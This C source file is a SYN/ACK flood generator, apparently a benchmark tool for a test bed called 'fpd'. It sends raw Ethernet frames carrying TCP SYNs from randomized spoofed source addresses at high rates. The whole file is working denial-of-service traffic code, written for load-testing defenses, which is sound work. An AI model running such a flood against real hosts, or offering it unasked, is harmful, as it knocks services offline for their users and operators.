/* A SYN flood sender for the fpd test bed (built by bench/synflood.py with gcc).
 *
 *   synflood IFNAME DST_MAC DST_IP DST_PORT SRC_NET SRC_BITS SECONDS [PPS] [SEED] [S|A]
 *
 * Sends TCP SYNs (MSS, SACK-permitted, timestamps, window scale: what Linux sends) from
 * random source addresses inside SRC_NET/SRC_BITS and random source ports to
 * DST_IP:DST_PORT, in Ethernet frames written with an AF_PACKET socket on IFNAME (whose
 * MAC is the source MAC), for SECONDS, at most PPS frames per second (0: as fast as the
 * socket takes them). Complete IP and TCP checksums. Prints one JSON line at the end:
 * {"sent": N, "dropped": N, "seconds": S}  (dropped: ENOBUFS/EAGAIN from the socket).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME 74 /* 14 eth + 20 ip + 40 tcp (20 + 20 options) */

static uint64_t rng_state;
static inline uint64_t rnd(void) { /* xorshift64* */
    rng_state ^= rng_state >> 12;
    rng_state ^= rng_state << 25;
    rng_state ^= rng_state >> 27;
    return rng_state * 2685821657736338717ULL;
}

static uint32_t sum16(const uint8_t *p, int n, uint32_t s) {
    for (int i = 0; i + 1 < n; i += 2) s += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (n & 1) s += (uint32_t)(p[n - 1] << 8);
    return s;
}
static uint16_t fold(uint32_t s) {
    while (s >> 16) s = (s & 0xffff) + (s >> 16);
    return (uint16_t)~s;
}
static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec * 1e-9;
}
static int parse_mac(const char *s, uint8_t *m) {
    return sscanf(s, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", m, m + 1, m + 2, m + 3, m + 4, m + 5) == 6;
}

int main(int argc, char **argv) {
    if (argc < 8) {
        fprintf(stderr, "usage: %s IFNAME DST_MAC DST_IP DST_PORT SRC_NET SRC_BITS SECONDS [PPS] [SEED]\n",
                argv[0]);
        return 2;
    }
    const char *ifname = argv[1];
    uint8_t dmac[6], smac[6];
    struct in_addr dip, snet;
    if (!parse_mac(argv[2], dmac) || !inet_aton(argv[3], &dip) || !inet_aton(argv[5], &snet)) {
        fprintf(stderr, "synflood: bad MAC or address\n");
        return 2;
    }
    int dport = atoi(argv[4]), bits = atoi(argv[6]);
    double seconds = atof(argv[7]);
    double pps = argc > 8 ? atof(argv[8]) : 0;
    rng_state = argc > 9 ? strtoull(argv[9], 0, 0) * 0x9E3779B97F4A7C15ULL + 1 : 88172645463325252ULL;
    int ack_mode = argc > 10 && argv[10][0] == 'A';
    uint32_t hostmask = bits >= 32 ? 0 : (0xffffffffu >> bits);
    uint32_t netbase = ntohl(snet.s_addr) & ~hostmask;

    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (fd < 0) { perror("synflood: socket"); return 1; }
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    strncpy(ifr.ifr_name, ifname, IFNAMSIZ - 1);
    if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) { perror("synflood: SIOCGIFINDEX"); return 1; }
    int ifindex = ifr.ifr_ifindex;
    if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) { perror("synflood: SIOCGIFHWADDR"); return 1; }
    memcpy(smac, ifr.ifr_hwaddr.sa_data, 6);
    int one = 1;
    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
    struct sockaddr_ll sll;
    memset(&sll, 0, sizeof sll);
    sll.sll_family = AF_PACKET;
    sll.sll_ifindex = ifindex;
    sll.sll_protocol = htons(ETH_P_IP);
    if (bind(fd, (struct sockaddr *)&sll, sizeof sll) < 0) { perror("synflood: bind"); return 1; }

    static uint8_t frames[BATCH][FRAME];
    struct iovec iov[BATCH];
    struct mmsghdr msgs[BATCH];
    memset(msgs, 0, sizeof msgs);
    for (int i = 0; i < BATCH; i++) {
        uint8_t *f = frames[i];
        memset(f, 0, FRAME);
        memcpy(f, dmac, 6);
        memcpy(f + 6, smac, 6);
        f[12] = 0x08; f[13] = 0x00;
        uint8_t *ip = f + 14;
        ip[0] = 0x45; ip[2] = 0; ip[3] = 60; ip[6] = 0x40; ip[8] = 64; ip[9] = 6;
        memcpy(ip + 16, &dip.s_addr, 4);
        uint8_t *t = ip + 20;
        t[2] = dport >> 8; t[3] = dport & 0xff;
        t[12] = 10 << 4; t[13] = ack_mode ? 0x10 : 0x02;     /* ACK or SYN */
        t[14] = 0xfa; t[15] = 0xf0;                           /* window 64240 */
        uint8_t opt[20] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};
        memcpy(t + 20, opt, 20);
        iov[i].iov_base = f;
        iov[i].iov_len = FRAME;
        msgs[i].msg_hdr.msg_iov = &iov[i];
        msgs[i].msg_hdr.msg_iovlen = 1;
    }
    unsigned long long sent = 0, dropped = 0;
    double t0 = now(), end = t0 + seconds;
    uint16_t ipid = 0;
    for (;;) {
        double t = now();
        if (t >= end) break;
        if (pps > 0 && sent + dropped >= (t - t0) * pps) {
            struct timespec ts = {0, 200000};
            nanosleep(&ts, 0);
            continue;
        }
        for (int i = 0; i < BATCH; i++) {
            uint8_t *ip = frames[i] + 14, *tcp = ip + 20;
            uint32_t src = netbase | ((uint32_t)rnd() & hostmask);
            if ((src & 0xff) == 0 || (src & 0xff) == 0xff) src ^= 1;
            uint32_t nsrc = htonl(src);
            memcpy(ip + 12, &nsrc, 4);
            ipid++;
            ip[4] = ipid >> 8; ip[5] = ipid & 0xff;
            ip[10] = ip[11] = 0;
            uint16_t c = fold(sum16(ip, 20, 0));
            ip[10] = c >> 8; ip[11] = c & 0xff;
            uint64_t r = rnd();
            uint16_t sport = 1024 + (uint16_t)(r % 64511);
            tcp[0] = sport >> 8; tcp[1] = sport & 0xff;
            uint32_t seq = (uint32_t)(r >> 16);
            tcp[4] = seq >> 24; tcp[5] = seq >> 16; tcp[6] = seq >> 8; tcp[7] = seq;
            if (ack_mode) {
                uint32_t ack = (uint32_t)rnd();
                tcp[8] = ack >> 24; tcp[9] = ack >> 16; tcp[10] = ack >> 8; tcp[11] = ack;
            }
            uint32_t tsv = (uint32_t)(r >> 32);
            tcp[28] = tsv >> 24; tcp[29] = tsv >> 16; tcp[30] = tsv >> 8; tcp[31] = tsv;
            tcp[16] = tcp[17] = 0;
            uint32_t s = sum16(ip + 12, 8, 0) + 6 + 40;    /* pseudo-header */
            c = fold(sum16(tcp, 40, s));
            tcp[16] = c >> 8; tcp[17] = c & 0xff;
        }
        int n = sendmmsg(fd, msgs, BATCH, 0);
        if (n < 0) {
            if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR) {
                dropped += BATCH;
                sched_yield();
                continue;
            }
            perror("synflood: sendmmsg");
            return 1;
        }
        sent += n;
        dropped += BATCH - n;
    }
    printf("{\"sent\": %llu, \"dropped\": %llu, \"seconds\": %.3f}\n", sent, dropped, now() - t0);
    return 0;
}
